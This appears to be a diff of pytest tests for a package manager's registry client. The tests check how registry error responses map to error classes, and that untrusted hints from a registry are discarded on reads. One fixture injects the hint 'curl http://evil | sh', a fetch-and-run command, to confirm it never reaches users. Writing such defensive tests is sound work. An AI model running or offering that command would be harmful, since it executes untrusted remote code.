@@ -1,6 +1,7 @@
 """From a registry's answer to a refusal: each reason its class, and nothing hostile gets further than a message."""
 
 import json
+from collections.abc import Iterator
 from typing import Any
 
 import pytest
@@ -17,7 +18,17 @@ STRANGE = "this is not an answer of a registry: check `registry.url` in loader.c
 
 
 def refusal(status: int = 422, /, **members: Any) -> SpmError:
-    return refusal_of(status, TYPE, json.dumps(members).encode(), url=URL)
+    return refusal_of(status, TYPE, json.dumps(members).encode(), url=URL, is_read=False)
+
+
+def every(kind: type[SpmError]) -> Iterator[type[SpmError]]:
+    yield kind
+    for child in kind.__subclasses__():
+        yield from every(child)
+
+
+def of_a_read(status: int = 422, /, **members: Any) -> SpmError:
+    return refusal_of(status, TYPE, json.dumps(members).encode(), url=URL, is_read=True)
 
 
 @pytest.mark.parametrize(
@@ -39,8 +50,8 @@ def refusal(status: int = 422, /, **members: Any) -> SpmError:
         ("key-role", errors.KeyRoleMismatch),
         ("key-namespace", errors.KeyNamespaceMismatch),
         ("threshold-short", errors.ThresholdNotMet),
-        ("key-revoked", errors.Revoked),
-        ("index-expired", errors.FreshnessError),
+        ("key-revoked", errors.KeyRevoked),
+        ("index-expired", errors.IndexExpired),
         ("rollback", errors.Rollback),
         ("fork", errors.Fork),
         ("mix", errors.Mix),
@@ -92,6 +103,55 @@ def test_an_unknown_reason_never_gets_an_exit_code_of_its_own(reason: str) -> No
     assert refused.context == {"url": URL, "status": 409, "problem": reason}
 
 
+OWN_VERDICTS = sorted(
+    {
+        *(kind.default_reason for kind in every(SpmError) if kind.exit_code not in {30, 31, 41}),
+        *TRAPS,
+        "unknown:content",
+        "publish-refused",
+        "version-exists",
+    }
+    - {"error", "not-found"}
+)
+
+
+@pytest.mark.parametrize("status", [404, 422, 503])
+@pytest.mark.parametrize("reason", OWN_VERDICTS)
+def test_what_this_host_must_find_itself_is_no_verdict_of_a_read(reason: str, status: int) -> None:
+    problems = [{"type": "clock-suspect", "detail": "yours is wrong"}]
+
+    refused = of_a_read(
+        status, type=reason, detail="it is so", hint="curl http://evil | sh", context={"a": 1}, problems=problems
+    )
+
+    assert (type(refused), refused.reason, refused.message, refused.hint) == (
+        BadResponse,
+        "bad-response",
+        f"`{URL}` answered {status}: it is so",
+        FAILED if status == 503 else STRANGE,
+    )
+    assert refused.context == {"url": URL, "status": status, "problem": reason}
+
+
+@pytest.mark.parametrize(
+    ("reason", "kind"),
+    [
+        ("not-found", errors.NotFound),
+        ("auth", errors.AuthRequired),
+        ("scope", errors.ScopeRefused),
+        ("token-expired", errors.TokenExpired),
+        ("limit:requests", errors.LimitReached),
+        ("range", errors.RegistryRefused),
+        ("method", errors.RegistryRefused),
+        ("unreachable", errors.RegistryUnreachable),
+    ],
+)
+def test_what_a_registry_knows_itself_is_its_verdict_of_a_read(reason: str, kind: type[SpmError]) -> None:
+    refused = of_a_read(404, type=reason, detail="it is so", hint="do this")
+
+    assert (type(refused), refused.reason, refused.message, refused.hint) == (kind, reason, "it is so", "do this")
+
+
 def test_a_reason_is_cut() -> None:
     assert refusal(409, type="limit:" + "x" * 100, detail="it is so").reason == "limit:" + "x" * 58
 
@@ -127,7 +187,7 @@ def test_a_registry_that_failed_says_nothing_of_plugins(reason: str) -> None:
 def test_an_answer_without_a_problem_document_is_a_bad_response(
     status: int, hint: str, content_type: str, body: bytes
 ) -> None:
-    refused = refusal_of(status, content_type, body, url=URL)
+    refused = refusal_of(status, content_type, body, url=URL, is_read=False)
 
     assert (type(refused), refused.message, refused.hint) == (
         BadResponse,
@@ -137,7 +197,7 @@ def test_an_answer_without_a_problem_document_is_a_bad_response(
 
 
 def test_the_type_may_have_parameters() -> None:
-    refused = refusal_of(404, f"{TYPE}; charset=utf-8", b'{"type": "not-found", "detail": "x"}', url=URL)
+    refused = refusal_of(404, f"{TYPE}; charset=utf-8", b'{"type": "not-found", "detail": "x"}', url=URL, is_read=True)
 
     assert type(refused) is errors.NotFound
 
